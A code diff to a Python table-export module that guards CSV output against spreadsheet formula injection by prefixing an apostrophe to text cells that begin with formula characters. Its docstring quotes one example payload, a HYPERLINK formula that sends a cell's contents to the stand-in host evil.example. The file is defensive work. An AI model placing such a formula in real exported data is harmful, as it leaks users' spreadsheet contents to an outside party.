@@ -1,5 +1,13 @@
 """Write an :class:`~analysis.core.Analysis` as JSON (one object keyed by table) or CSV
 (one file per table), atomically: a file is either complete or absent.
+
+CSV files are opened in spreadsheets, and article text is untrusted: a cell such as
+``=HYPERLINK("http://evil.example/?leak="&A2,"Read")`` would run as a formula. As OWASP
+recommends against CSV injection, a text cell that begins with ``=``, ``+``, ``-``,
+``@``, a tab or a carriage return (or the full-width ``＝＋－＠``) is written with a
+leading apostrophe, which spreadsheets read as "this is text". A text that is a plain
+number ("-5", "+3.2%") cannot be a formula and is left alone; numeric columns are
+numbers and untouched. JSON and Parquet hold the exact text: they are for code.
 """
 
 from __future__ import annotations
@@ -7,6 +15,7 @@ from __future__ import annotations
 import json
 import math
 import os
+import re
 import tempfile
 from pathlib import Path
 
@@ -15,7 +24,17 @@ import pandas as pd
 
 from .schema import TABLES
 
-__all__ = ["to_records", "to_json_dict", "to_json", "write_json", "write_csv", "atomic_write_text"]
+__all__ = ["to_records", "to_json_dict", "to_json", "write_json", "write_csv", "atomic_write_text", "spreadsheet_safe"]
+
+#: First characters that make a spreadsheet read a cell as a formula (OWASP's list, and
+#: the full-width forms some spreadsheets also accept).
+FORMULA_START = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
+#: A plain number ("-5", "+3.2", "-1,000", "-12%"): harmless, left as it is. Without
+#: anchors, so Python's ``re`` and Arrow's RE2 use the same pattern.
+PLAIN_NUMBER = r"[+-]?(?:\d[\d,]*)?\.?\d+%?"
+_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)
+#: The guard's mark: a leading apostrophe, which spreadsheets hide and read as "text".
+FORMULA_GUARD = "'"
 
 
 def _plain(value):
@@ -83,13 +102,26 @@ def write_json(analysis, out_dir: Path, *, name: str = "tables.json") -> Path:
     return path
 
 
+def spreadsheet_safe(value):
+    """``value`` as a CSV cell a spreadsheet will not run: a text starting like a formula
+    gets a leading apostrophe (see the module's docstring); anything else is returned as it is."""
+    if isinstance(value, str) and value and value[0] in FORMULA_START and not _PLAIN_NUMBER.fullmatch(value):
+        return FORMULA_GUARD + value
+    return value
+
+
 def _csv_ready(frame: pd.DataFrame) -> pd.DataFrame:
-    """Lists become JSON strings in CSV, so they read back unambiguously (also lists
-    read back from Parquet, which arrive as numpy arrays)."""
+    """The frame as its CSV holds it: lists become JSON strings, so they read back
+    unambiguously (also lists read back from Parquet, which arrive as numpy arrays), and
+    text cells are made :func:`spreadsheet_safe`."""
     frame = frame.copy()
     for col in frame.columns:
+        if pd.api.types.is_numeric_dtype(frame[col].dtype) or pd.api.types.is_bool_dtype(frame[col].dtype):
+            continue  # numbers stay numbers
         if frame[col].dtype == object and frame[col].map(lambda v: isinstance(v, (list, dict, np.ndarray))).any():
             frame[col] = frame[col].map(lambda v: json.dumps(_plain(v), ensure_ascii=False))
+        else:
+            frame[col] = frame[col].map(spreadsheet_safe)
     return frame
 
 
